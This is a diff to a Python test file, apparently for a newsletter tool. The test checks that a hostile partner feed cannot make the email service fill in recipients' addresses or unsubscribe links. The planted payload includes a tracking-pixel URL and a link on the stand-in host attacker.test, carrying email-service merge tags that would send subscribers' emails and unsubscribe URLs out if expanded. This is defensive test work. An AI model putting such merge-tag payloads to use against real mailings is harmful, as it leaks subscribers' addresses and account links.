@@ -53,18 +53,19 @@ PLANTED = [
 ]  # fmt: skip
 # The ones a title must still show, literally, in every part (the rest are checked where they survive ingest).
 MUST_SURVIVE = ["%%EMAIL%%", "%%UNSUBSCRIBE_URL%%", "%recipient.unsubscribe_url%", "%unsubscribe_url%", "-publisher_email-",
-                "%x%unsubscribe_url%", "%x%recipient_email%"]
+                "%x%unsubscribe_url%", "%x%recipient_email%", "<% unsubscribe from everything %>", "<%asm_group_unsubscribe_raw_url%>"]
 PIXEL = "https://attacker.test/px.png?e=%%EMAIL%%&u=%%UNSUBSCRIBE_URL%%&m=%recipient.email%&g=-publisher_email-&x=%x%unsubscribe_url%"
 LINK = "https://attacker.test/read?u=%recipient.unsubscribe_url%&p=%%PREFERENCES_URL%%&t=%unsubscribe_url%"
-# SendGrid's subscription-tracking tag. Ingest already strips it from titles and summaries (text only, markup
-# removed); the request also switches subscription tracking off (tests/test_api_sendgrid.py checks that).
+# SendGrid's subscription-tracking tag and an unsubscribe-group tag: the request switches subscription tracking
+# off and names no group, so both stay literal.
 SENDGRID_TRACKING = "<% unsubscribe from everything %>"
+SENDGRID_GROUP = "<%asm_group_unsubscribe_raw_url%>"
 
 
 def _hostile_feed() -> bytes:
     half = len(PLANTED) // 2
-    title_a = " ".join(PLANTED[:half])
-    title_b = " ".join(PLANTED[half:])
+    title_a = " ".join(PLANTED[:half]) + " " + SENDGRID_TRACKING
+    title_b = " ".join(PLANTED[half:]) + " " + SENDGRID_GROUP
     summary = "Read this: " + " ".join(PLANTED) + " " + SENDGRID_TRACKING
     esc = lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")  # noqa: E731
     entries = []
@@ -162,7 +163,7 @@ def surviving(cfg: Config, store: Any) -> list[str]:
     hostile = [p for p in plan.publications if p.source == "partner"]
     assert len(hostile) == 2, [p.title for p in plan.publications]
     seen = " ".join(f"{p.title} {p.summary} {' '.join(p.authors)}" for p in hostile)
-    kept = [s for s in PLANTED if s in seen]
+    kept = [s for s in [*PLANTED, SENDGRID_TRACKING, SENDGRID_GROUP] if s in seen]
     assert set(MUST_SURVIVE) <= set(kept), f"the attack did not reach the issue: {sorted(set(MUST_SURVIVE) - set(kept))}"
     # And the hostile URLs reached the rendered issue unchanged: the test attacks what it means to.
     html = render_variants(cfg, plan, [()])[()].html
@@ -206,7 +207,7 @@ def test_a_hostile_feed_cannot_fill_in_anyones_address_or_links_outbox_via_run_o
 
 def _planted_in_store(store: Any) -> list[str]:
     seen = " ".join(f"{p.title} {p.summary} {' '.join(p.authors)}" for p in store.publications() if p.source == "partner")
-    kept = [s for s in PLANTED if s in seen]
+    kept = [s for s in [*PLANTED, SENDGRID_TRACKING, SENDGRID_GROUP] if s in seen]
     assert set(MUST_SURVIVE) <= set(kept)
     return kept
 
